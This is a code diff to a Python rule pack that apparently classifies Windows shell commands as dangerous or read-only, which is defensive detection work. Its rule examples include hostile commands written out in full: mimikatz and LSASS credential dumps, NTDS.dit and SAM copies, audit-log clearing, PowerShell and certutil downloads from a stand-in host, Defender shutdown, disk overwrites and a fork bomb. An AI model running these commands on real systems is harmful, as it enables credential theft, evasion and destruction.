+         counter=["wevtutil el", "wevtutil qe Security /c:5 /rd:true /f:text"]),
+    rule("win.audit-off", CATASTROPHIC, "windows evasion", "clears or disables the security audit policy", names="auditpol",
+         tier=IRREVERSIBLE, test=_auditpol_off,
+         examples=["auditpol /clear /y", "auditpol /set /category:* /success:disable /failure:disable"],
+         counter=["auditpol /get /category:*"]),
+    rule("win.usn-delete", DANGEROUS, "windows evasion", "deletes the NTFS change journal", names="fsutil",
+         test=lambda c: "deletejournal" in _lower(c), examples=["fsutil usn deletejournal /d C:"],
+         counter=["fsutil fsinfo drives"]),
+    rule("win.mimikatz", CATASTROPHIC, "windows creds", "runs a credential dumping tool",
+         names="mimikatz mimikatz64 mimilib pypykatz lazagne secretsdump secretsdump.py impacket-secretsdump gsecdump pwdump"
+               " pwdump7 fgdump wce nanodump dumpert ppldump safetykatz sharpkatz rubeus kekeo",
+         tier=IRREVERSIBLE, examples=["mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
+                                      "lazagne.exe all", "secretsdump.py -sam sam.save -system system.save LOCAL"],
+         counter=["dir"]),
+    rule("win.mimikatz-commands", CATASTROPHIC, "windows creds", "mimikatz commands that dump credentials or tickets",
+         raw="always", needles="sekurlsa lsadump kerberos:: dpapi:: vault:: privilege::debug token::elevate misc::memssp",
+         tier=IRREVERSIBLE,
+         args=r"(?i)\b(?:sekurlsa|lsadump|kerberos|dpapi|vault|crypto|token|misc)::(?:\w{2,30})|privilege::debug",
+         examples=["x.exe privilege::debug sekurlsa::logonpasswords"], counter=["echo sekurlsa"]),
+    rule("win.lsass-dump", CATASTROPHIC, "windows creds", "dumps the memory of LSASS (every logged-on password)",
+         names="procdump procdump64 sqldumper createdump rdrleakdiag rundll32 dumpert nanodump ppldump", tier=IRREVERSIBLE,
+         test=lambda c: _lsass_dump(c) or c.name == "rundll32" and _comsvcs(c),
+         examples=["procdump64.exe -accepteula -ma lsass.exe lsass.dmp",
+                   "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full"],
+         counter=["procdump -ma notepad.exe"]),
+    rule("win.ntds-dump", CATASTROPHIC, "windows creds", "copies the domain's password database (NTDS.dit) or the SAM hives",
+         names="ntdsutil esentutl copy xcopy robocopy copy-item cp vssadmin expand", tier=IRREVERSIBLE, cite=True,
+         test=lambda c: _ntdsutil(c) if c.name == "ntdsutil" else _esentutl(c) if c.name == "esentutl" else _hive_copy(c),
+         examples=["ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\\ifm\" q q",
+                   "esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\temp\\ntds.dit",
+                   "copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM C:\\temp\\SAM"],
+         counter=["copy a.txt b.txt", "ntdsutil /?"]),
+    rule("win.accounts", DANGEROUS, "windows creds", "creates, deletes or changes user accounts and group membership",
+         names="net net1 add-localgroupmember new-localuser", tier=IRREVERSIBLE,
+         test=lambda c: c.name not in ("net", "net1") or _net_account_change(c),
+         examples=["net user administrator Password123!", "net localgroup administrators bob /add", "net user bob /delete"],
+         counter=["net start", "net user", "net localgroup administrators"]),
+    rule("win.acl", DANGEROUS, "windows fs", "takes ownership or changes file permissions", names="icacls takeown cacls",
+         test=lambda c: c.name != "icacls" or _switch(c, "/grant", "/setowner", "/reset", "/remove", "/deny", "/restore",
+                                                       "/save", "/setintegritylevel", "/inheritance", "/substitute"),
          examples=["icacls file.exe /grant Everyone:F", "takeown /f C:\\Windows\\System32"], counter=["icacls file.exe"]),
+    rule("win.schtasks", DANGEROUS, "windows evasion", "creates, changes, runs or deletes scheduled tasks",
+         names="schtasks register-scheduledtask at",
+         test=lambda c: c.name != "schtasks" or _switch(c, "/create", "/change", "/delete", "/run", "/end"),
+         examples=["schtasks /create /tn x /tr evil.exe /sc onlogon"], counter=["schtasks /query"]),
     rule("win.setx-path", DANGEROUS, "windows evasion", "changes persistent environment variables", names="setx",
          examples=["setx PATH \"C:\\malicious;%PATH%\""], counter=["set"]),
-    rule("win.powershell-download", DANGEROUS, "windows net exec", "PowerShell downloads and runs code", raw="always", needles="iex invoke- download iwr bitstransfer webclient",
-         tier=IRREVERSIBLE, args=r"(?i)\b(?:iex|invoke-expression)\b|downloadstring|downloadfile|invoke-webrequest|\biwr\b|start-bitstransfer|net\.webclient",
+    rule("win.path", DANGEROUS, "windows evasion", "changes the search path for programs", names="path",
+         test=lambda c: bool(c.args), examples=["path C:\\tools;%PATH%"], counter=["path"]),
+    rule("win.sort-output", DANGEROUS, "windows fs", "sort /o writes its result to a file", names="sort",
+         test=_sort_output, examples=["sort /o out.txt in.txt"], counter=["sort in.txt"]),
+    rule("win.set-clock", DANGEROUS, "windows", "sets the system date or time", names="date time",
+         test=lambda c: _sets_clock(c) and not any(a.lower() == "/t" for a in c.args),
+         examples=["date 01-01-2020"], counter=["date /t", "date +%F"]),
+    rule("win.powershell-download", DANGEROUS, "windows net exec", "PowerShell downloads and runs code", raw="always",
+         needles="iex invoke- download iwr bitstransfer webclient",
+         tier=IRREVERSIBLE, args=r"(?i)\b(?:iex|invoke-expression)\b|downloadstring|downloadfile|invoke-webrequest|\biwr\b"
+                                 r"|start-bitstransfer|net\.webclient",
          examples=["powershell -c \"iex ((New-Object System.Net.WebClient).DownloadString('https://x.example'))\""],
          counter=["powershell -c Get-Date"]),
-    rule("win.powershell-encoded", DANGEROUS, "windows obfuscation", "PowerShell runs an encoded or hidden command",
-         names="powershell pwsh powershell.exe", args=r"(?i)(?:^|\s)-(?:e|ec|enc|encodedcommand|w\s+hidden|windowstyle\s+hidden|nop|executionpolicy\s+bypass|ep\s+bypass)\b",
-         examples=["powershell -enc SQBFAFgA", "powershell -ep bypass -f x.ps1"], counter=["pwsh -v"]),
-    rule("win.powershell", DANGEROUS, "windows exec", "runs PowerShell code", names="powershell pwsh",
-         examples=["powershell -c Get-Process"], counter=["ls"]),
+    rule("win.powershell-encoded", DANGEROUS, "windows obfuscation", "PowerShell runs a base64-encoded command (hidden from review)",
+         trigger=True, examples=["powershell -enc SQBFAFgA", "pwsh -ec RwBlAHQALQBEAGEAdABlAA=="], counter=["pwsh -v"]),
+    rule("win.powershell-file", DANGEROUS, "windows exec", "PowerShell runs a script file whose contents are not shown",
+         trigger=True, examples=["powershell -ep bypass -f x.ps1", "pwsh ./deploy.ps1"], counter=["pwsh -NoProfile -c Get-Date"]),
     rule("win.lolbin", DANGEROUS, "windows exec net", "a built-in Windows binary abused to download or run code",
-         names="certutil bitsadmin mshta rundll32 regsvr32 installutil msbuild cmstp wscript cscript forfiles msiexec odbcconf",
-         tier=IRREVERSIBLE, examples=["certutil -urlcache -f https://x.example/m.exe m.exe", "mshta http://x.example/a.hta"],
-         counter=["ls"]),
-    rule("win.runas", DANGEROUS, "windows exec", "runs a program as another user", names="runas start-process",
+         names="certutil bitsadmin mshta rundll32 regsvr32 installutil msbuild cmstp wscript cscript forfiles msiexec odbcconf"
+               " regasm regsvcs msxsl pcalua syncappvpublishingserver control mavinject",
+         tier=IRREVERSIBLE, test=lambda c: c.name != "certutil" or not _certutil_read(c),
+         examples=["certutil -urlcache -f https://x.example/m.exe m.exe", "mshta http://x.example/a.hta"],
+         counter=["certutil -hashfile setup.exe SHA256"]),
+    rule("win.runas", DANGEROUS, "windows exec", "runs a program as another user or in a new process", names="runas start-process",
          examples=["runas /user:Administrator cmd"], counter=["whoami"]),
-    rule("win.taskkill", DANGEROUS, "windows exec", "kills processes", names="taskkill stop-process",
+    rule("win.taskkill-security", CATASTROPHIC, "windows evasion", "kills the antivirus or every process",
+         names="taskkill tskill", tier=IRREVERSIBLE, test=_taskkill_security,
+         examples=["taskkill /f /im MsMpEng.exe", "taskkill /F /IM *"], counter=["taskkill /F /IM process.exe"]),
+    rule("win.taskkill", DANGEROUS, "windows exec", "kills processes", names="taskkill tskill stop-process",
          examples=["taskkill /F /IM process.exe"], counter=["tasklist"]),
-    rule("win.defender-off", DANGEROUS, "windows evasion", "disables Windows Defender or the firewall", raw="always", needles="disablerealtime add-mppreference firewall",
-         tier=IRREVERSIBLE, args=r"(?i)DisableRealtimeMonitoring|Add-MpPreference\s+-ExclusionPath|netsh\s+(?:adv)?firewall\s+set\s+\w*\s*state\s+off",
-         examples=["powershell Set-MpPreference -DisableRealtimeMonitoring $true"], counter=["powershell Get-MpPreference"]),
-    rule("win.cmd", DANGEROUS, "windows exec", "runs a cmd.exe command line", names="cmd",
-         examples=["cmd /c dir"], counter=["dir"]),
+    rule("win.wmic", DANGEROUS, "windows exec", "wmic changes the system or starts processes", names="wmic",
+         test=lambda c: not _wmic_read(c),
+         examples=["wmic process call create \"notepad.exe\"", "wmic useraccount where name='bob' delete"],
+         counter=["wmic logicaldisk get caption,freespace,size"]),
+    rule("win.write-volume", CATASTROPHIC, "windows fs", "writes raw bytes over a disk or volume", scope="redirect",
+         tier=IRREVERSIBLE, test=lambda c: any(winpath.is_device(t) for t in c.out_targets()),
+         examples=["type zero.bin > \\\\.\\PhysicalDrive0"], counter=["type x > out.bin"]),
+    rule("win.fork-bomb", CATASTROPHIC, "windows exec", "a batch fork bomb: starts itself until the machine stops",
+         raw="always", needles="%0", tier=IRREVERSIBLE, args=r"%0\s{0,4}\|\s{0,4}%0|start\s{1,4}(?:\"\"\s{1,4})?%0\b",
+         examples=["%0|%0", ":a & start %0 & goto a"], counter=["echo %0"]),
 ]
 
-PACK = Pack("windows", "cmd.exe and PowerShell: destruction, persistence, downloads and privilege.", rules=RULES)
+
+def _net_account_change(cmd: Command) -> bool:
+    args = _lower(cmd)
+    if not args or args[0] not in ("user", "localgroup", "group", "accounts"):
+        return False
+    if args[0] == "accounts":
+        return any(a.startswith("/") and a != "/domain" for a in args[1:])
+    positional = [a for a in args[1:] if not a.startswith("/")]
+    switches = [a for a in args[1:] if a.startswith("/") and a != "/domain"]
+    return bool(switches) or args[0] == "user" and len(positional) > 1 or args[0] != "user" and len(positional) > 1
+
+
+def _certutil_read(cmd: Command) -> bool:
+    args = _lower(cmd)
+    return bool(args) and args[0] in ("-hashfile", "-dump", "-store", "-viewstore", "-verify") and not any(
+        a.startswith(("http:", "https:", "ftp:", "\\\\")) or a in ("-urlcache", "-f", "-split", "-decode", "-encode")
+        for a in args)
+
+
+_WMIC_READ = re.compile(r"(?i)(?:get|list)\b")
+
+
+def _wmic_read(cmd: Command) -> bool:
+    """`wmic <alias> [where …] get|list …` with a built-in output format (a URL /format runs a stylesheet)."""
+    args = _lower(cmd)
+    if any(a.startswith(("/node", "/user", "/password", "/record", "/output", "/append")) for a in args):
+        return False
+    formats = [a.split(":", 1)[1] if ":" in a else "" for a in args if a.startswith("/format")]
+    if any(f.strip('"') not in ("list", "table", "csv", "htable", "value", "hform", "textvaluelist", "rawxml", "xml", "")
+           for f in formats):
+        return False
+    words = [a for a in args if not a.startswith("/")]
+    return any(w in ("get", "list") for w in words) and not any(
+        w in ("call", "set", "delete", "create", "assoc") for w in words)
+
+
+def _no_operands(args: list[str]) -> str | None:
+    return None if not args else "takes no operands here"
+
+
+def _reg_query(args: list[str]) -> str | None:
+    return None if args and registry_key(args[0]) is not None else "reg query needs a registry key"
+
+
+def _netsh_show(cmd: Command) -> str | None:
+    """`netsh [context …] show …`: every word before `show` names a context, nothing after it sets."""
+    args = _lower(cmd)
+    if "show" not in args or any(a.startswith(("-r", "/r", "-u", "-p", "-f", "exec", "set", "add", "delete")) for a in args):
+        return "netsh: only `… show …` is read-only"
+    if "key=clear" in args:
+        return "netsh: key=clear prints a saved password"
+    contexts = args[:args.index("show")]
+    return None if all(re.fullmatch(r"[a-z0-9]{1,20}", c) for c in contexts) else "netsh: unknown context"
+
+
+def _net(cmd: Command) -> str | None:
+    args = _lower(cmd)
+    if not args:
+        return "net: no sub-command"
+    sub, rest = args[0], args[1:]
+    switches = [a for a in rest if a.startswith("/")]
+    positional = [a for a in rest if not a.startswith("/")]
+    allowed = {"user": ({"/domain"}, 1), "localgroup": ({"/domain"}, 1), "group": ({"/domain"}, 1),
+               "accounts": ({"/domain"}, 0), "start": (set(), 0), "share": (set(), 1), "use": (set(), 0),
+               "session": (set(), 0), "view": ({"/all"}, 1), "config": (set(), 1), "statistics": (set(), 1),
+               "file": (set(), 0), "time": ({"/domain", "/querysntp"}, 1), "helpmsg": (set(), 1), "help": (set(), 2)}
+    if sub not in allowed:
+        return f"net {sub}: not a read-only sub-command"
+    switches_ok, most = allowed[sub]
+    if any(s.split(":", 1)[0] not in switches_ok for s in switches) or len(positional) > most:
+        return f"net {sub}: changes something"
+    if sub == "share" and positional and "=" in positional[0]:
+        return "net share NAME=PATH creates a share"
+    return None
+
+
+def _wmic(cmd: Command) -> str | None:
+    return None if _wmic_read(cmd) else "wmic: only get and list are read-only"
+
+
+def _fc(cmd: Command) -> str | None:
+    operands = [a for a in cmd.args if not a.startswith("/")]
+    switches = [a.lower() for a in cmd.args if a.startswith("/")]
+    if len(operands) != 2:
+        return "fc compares two files"
+    return None if all(re.fullmatch(r"/(?:a|b|c|l|lb\d+|n|off(?:line)?|t|u|w|\d+)", s) for s in switches) else "fc: unknown switch"
+
+
+def _windows(flags: str = "", valued: str = "", **kwargs) -> Options:
+    return options(flags + " /?", valued, slash=True, fold=True, **kwargs)
+
+
+def _subs(table: dict[str, Options]) -> Options:
+    """Sub-commands compared case-insensitively (`reg QUERY`, `schtasks /Query`)."""
+    return Options(subcommands=table, fold=True)
+
+
+_VSS_LISTS = frozenset({"shadows", "writers", "providers", "volumes", "shadowstorage"})
+
+
+def _vssadmin(cmd: Command) -> str | None:
+    args = _lower(cmd)
+    if len(args) < 2 or args[0] != "list" or args[1] not in _VSS_LISTS:
+        return "vssadmin: only list is read-only"
+    extra = [a for a in args[2:] if not re.fullmatch(r"/(?:for|on|shadow|set)=\S{1,200}", a)]
+    return None if not extra else "vssadmin list: unknown option"
+
+
+_SC_READ = _windows(operands=None)
+READ_ONLY = {
+    "ipconfig": _windows("/all /displaydns /allcompartments", operands=_no_operands),
+    "tasklist": _windows("/v /svc /m /nh /apps", "/fo /fi"),
+    "systeminfo": _windows("/nh", "/fo", operands=_no_operands),
+    "driverquery": _windows("/v /si /nh", "/fo", operands=_no_operands),
+    "getmac": _windows("/v /nh", "/fo", operands=_no_operands),
+    "where": _windows("/q /f /t", "/r"),
+    "findstr": _windows("/b /e /l /r /s /i /x /v /n /m /o /p /offline /off", "/c /d /a /g /f", attached="/c /d /a"),
+    "fc": lambda cmd: _fc(cmd),
+    "ver": _windows(operands=_no_operands),
+    "vol": _windows(),
+    "reg": _subs({"query": _windows("/s /se /ve /k /d /c /e /z /x", "/v /f /t /reg", attached="/reg", operands=_reg_query)}),
+    "sc": _subs({name: _SC_READ for name in (
+        "query", "queryex", "qc", "qdescription", "qfailure", "qfailureflags", "qsidtype", "qprivs", "qtriggerinfo",
+        "qpreferrednode", "qmanagedaccount", "qprotection", "quserservice", "enumdepend", "getdisplayname",
+        "getkeyname", "sdshow", "showsid")}),
+    "netsh": _netsh_show,
+    "net": _net,
+    "vssadmin": _vssadmin,
+    "bcdedit": _windows("/enum /v", operands=lambda a: None if all(
+        x.lower() in ("all", "bootapp", "bootmgr", "osloader", "resume", "inherit", "firmware", "active") or
+        re.fullmatch(r"\{[\w-]{1,40}\}", x) for x in a) else "bcdedit: only /enum is read-only"),
+    "wmic": _wmic,
+    "schtasks": _subs({"/query": _windows("/v /nh /xml /hresult", "/fo /tn", attached="/xml")}),
+    "wevtutil": _subs({
+        "el": _windows(), "enum-logs": _windows(), "ep": _windows(), "enum-publishers": _windows(),
+        "gl": _windows("/f", attached="/f"), "get-log": _windows("/f", attached="/f"),
+        "gli": _windows("/lf", attached="/lf"), "get-loginfo": _windows("/lf", attached="/lf"),
+        "gp": _windows("/ge /gm /f", attached="/ge /gm /f"), "get-publisher": _windows("/ge /gm /f", attached="/ge /gm /f"),
+        "qe": _windows("/lf /sq /q /bm /rd /f /c /e /l", attached="/lf /sq /q /bm /rd /f /c /e /l"),
+        "query-events": _windows("/lf /sq /q /bm /rd /f /c /e /l", attached="/lf /sq /q /bm /rd /f /c /e /l"),
+    }),
+    "auditpol": _windows("/get /list /r", "/category /subcategory /user", attached="/category /subcategory /user /sd",
+                         operands=_no_operands),
+    "gpresult": _windows("/r /v /z /scope", "/scope /user", operands=_no_operands),
+    "icacls": _windows("/t /c /l /q"),
+    "query": _subs({"user": _windows(), "session": _windows(), "process": _windows()}),
+    "quser": _windows(), "qwinsta": _windows(),
+    "certutil": lambda cmd: None if _certutil_read(cmd) else "certutil: only -hashfile, -dump and -store read",
+    "reagentc": _windows("/info", operands=_no_operands),
+    "manage-bde": _windows("-status", operands=lambda a: None if len(a) <= 1 else "manage-bde: too many operands"),
+}
+
+PACK = Pack("windows", "cmd.exe and Windows system tools: roots, registry, boot, recovery, services, Defender, "
+            "firewall, logs, credentials, disks.", rules=RULES, read_only=READ_ONLY)
